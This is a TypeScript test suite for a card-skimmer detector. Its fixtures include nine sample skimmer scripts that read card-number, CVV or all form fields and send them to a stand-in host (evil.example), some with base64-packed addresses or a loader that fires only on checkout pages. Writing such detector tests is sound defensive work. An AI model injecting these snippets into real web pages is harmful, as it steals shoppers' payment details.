import assert from "node:assert/strict"
import { test } from "node:test"
import fc from "fast-check"
import { skimmerSigns, SKIMMER_SHAPES, type SkimmerShape } from "./skimmer.ts"

const SHOP = "shop.example.jp"
const base64 = (text: string): string => Buffer.from(text).toString("base64")
const escaped = (text: string): string =>
  [...text].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")

const SKIMMERS: readonly (readonly [name: string, text: string, want: SkimmerShape])[] = [
  [
    "an image that carries the number",
    `document.querySelector("#card_no").addEventListener("blur",function(){new Image().src="https://stat.evil.example/p.gif?d="+this.value})`,
    "card-fields-sent-elsewhere",
  ],
  [
    "an image by template text",
    "const n=document.forms[0].cardNumber.value;(new Image).src=`//evil.example/x?${n}`",
    "card-fields-sent-elsewhere",
  ],
  [
    "a beacon",
    `navigator.sendBeacon('https://evil.example/c', document.getElementById('cc-number').value)`,
    "card-fields-sent-elsewhere",
  ],
  [
    "fetch to an address in a name",
    `var u="https://evil.example/g";var d={n:q("input[name=card_number]").value};fetch(u,{method:"POST",body:JSON.stringify(d)})`,
    "card-fields-sent-elsewhere",
  ],
  [
    "a request to a packed address",
    `var u=atob("${base64("https://evil.example/g")}"),x=new XMLHttpRequest;x.open("POST",u);x.send(document.getElementById("cvv").value)`,
    "card-fields-sent-elsewhere",
  ],
  [
    "all fields, packed",
    `document.querySelectorAll("input, select").forEach(e=>{o[e.name]=e.value});var i=new Image;i.src="https://evil.example/?q="+btoa(JSON.stringify(o))`,
    "all-fields-sent-elsewhere",
  ],
  [
    "a socket to a packed host",
    `let w=new WebSocket(atob("${base64("wss://evil.example/s")}"));for(const e of document.getElementsByTagName("input"))w.send(e.value)`,
    "all-fields-sent-elsewhere",
  ],
  [
    "a loader that waits for the checkout",
    `if(location.href.indexOf("checkout")>-1){var s=document.createElement("script");s.src=atob("${base64("//evil.example/a.js")}");document.head.appendChild(s)}`,
    "hidden-address-at-checkout",
  ],
  [
    "escaped text",
    `var a="${escaped("querySelector card_number .value fetch( https://")}";${`_0x1a2b('0');`.repeat(60)}document[a].value;new Image().src=_0x1a2b(1)`,
    "disguised-sending",
  ],
]
for (const [name, text, want] of SKIMMERS)
  test(`skimmer: ${name}`, () => {
    const signs = skimmerSigns({ text, host: SHOP, shopHost: SHOP })
    assert.ok(
      signs.some(({ shape }) => shape === want),
      JSON.stringify(signs),
    )
    assert.ok(signs.every((sign) => sign.text !== "" && sign.text.length <= 256))
  })
test("skimmer: every shape is reached", () => {
  assert.deepEqual([...new Set(SKIMMERS.map(([, , shape]) => shape))].toSorted(), SKIMMER_SHAPES.toSorted())
})

const HONEST: readonly (readonly [name: string, text: string, host?: string | null])[] = [
  ["nothing", ""],
  [
    "a library of page tools",
    `/*! https://jquery.com/ */jQuery.fn.extend({val:function(){return this[0].value}});x=new window.XMLHttpRequest;x.open(o.type,o.url);jQuery("input")`,
  ],
  [
    "a counter of visits",
    `window.dataLayer=[];function gtag(){dataLayer.push(arguments)}navigator.sendBeacon("https://www.google-analytics.com/g/collect",encodeURIComponent(location.href))`,
    null,
  ],
  [
    "a provider's loader",
    `var s=document.createElement("script");s.src="https://js.stripe.com/v3";document.head.appendChild(s);elements.create("cardNumber");x.value`,
    null,
  ],
  [
    "own script that sends to a provider",
    `fetch("https://api.pay.jp/v1/tokens",{method:"POST",body:document.getElementById("card_number").value})`,
    SHOP,
  ],
  ["the provider's own script", `fetch("https://stats.example.net/",{body:cardNumber.value})`, "js.stripe.com"],
  ["own card form to the own host", `fetch("https://shop.example.jp/pay",{body:f.cardNumber.value})`],
  ["a newsletter form", `$("form.news input").val();fetch("https://list.example.net/add",{body:JSON.stringify(d)})`],
  [
    "a recorder that sends home",
    `fetch("https://in.recorder.example/x",{body:btoa(document.forms[0].value)})`,
    "cdn.recorder.example",
  ],
  [
    "card words far from the sending",
    `a.cardNumber.value;${" ".repeat(9_000)}navigator.sendBeacon("https://log.example.net/e",b.value)`,
  ],
  [
    "a packed picture",
    `var i=new Image;i.src=atob("${base64("R0lGODlhAQABAIAAAAAAAP")}");if(location.href.match(/checkout/))go()`,
  ],
  ["disguised without cards", `${`_0x1a2b('0');`.repeat(60)}fetch(_0x1a2b(1));navigator.webdriver`],
]
for (const [name, text, host = SHOP] of HONEST)
  test(`no skimmer: ${name}`, () => {
    assert.deepEqual(skimmerSigns({ text, host, shopHost: SHOP }), [])
  })

test("skimmer: any text is read in linear time", () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 3_000 }), (text) => {
      assert.ok(skimmerSigns({ text, host: null, shopHost: SHOP }).length <= SKIMMER_SHAPES.length)
    }),
  )
  const pieces = [
    `.src="//`,
    `atob("AAAA`,
    `new Image`,
    `fetch(a`,
    `a=`,
    `location`,
    "\\x41",
    "sendBeacon(  ",
    `querySelectorAll("`,
    `$ `,
    "_0xabcd",
    `x="https://a.b`,
    "checkout ",
  ]
  for (const piece of pieces) {
    const text = piece.repeat(Math.ceil(2 ** 20 / piece.length))
    assert.ok(skimmerSigns({ text, host: null, shopHost: SHOP }).length <= 10, piece)
  }
})
